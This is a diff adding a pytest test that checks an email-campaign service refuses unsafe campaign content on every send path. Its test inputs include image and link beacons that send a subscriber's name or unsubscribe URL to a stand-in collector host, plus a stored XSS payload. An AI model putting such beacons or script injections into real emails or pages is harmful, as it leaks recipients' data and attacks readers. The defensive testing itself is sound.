@@ -189,3 +189,36 @@ def test_dispatch_sends_due_scheduled_campaigns(mag, django_capture_on_commit_ca
         assert services.campaign_dispatch_due() == 1
     c.refresh_from_db()
     assert c.status == "sent"
+
+
+@pytest.mark.parametrize(
+    "fields",
+    [
+        {"body_html": '<img src="https://collector.example/?n={name}" alt="">'},
+        {"body_html": '<a href="https://collector.example/?u={unsubscribe_url}">x</a>'},
+        {"body_html": '<p title="{name}">x</p>'},
+        {"body_html": '<p>{name}</p><img src="x" onerror="alert(1)">'},  # stored unsanitised
+        {"body_text": "https://collector.example/?n={name}"},
+        {"subject": "{name} 様へ"},
+    ],
+)
+def test_the_sending_services_refuse_what_the_form_would_refuse(
+    mag, fields, smtp_settings, django_capture_on_commit_callbacks
+):
+    from datetime import timedelta
+
+    from django.utils import timezone
+
+    subscriber(mag)
+    c = campaign(mag, **fields)  # straight into the database, past the admin form
+    for send in (
+        lambda: services.campaign_send_now(campaign=c),
+        lambda: services.campaign_schedule(campaign=c, at=timezone.now() + timedelta(hours=1)),
+        lambda: services.campaign_send_test(campaign=c, to_address="mkt@shop.test"),
+    ):
+        with django_capture_on_commit_callbacks(execute=True), pytest.raises(ValidationError):
+            send()
+    c.refresh_from_db()
+    assert c.status == "draft" and not c.deliveries.exists()
+    assert smtp_settings.messages == []
+    assert services.campaign_problems(c)
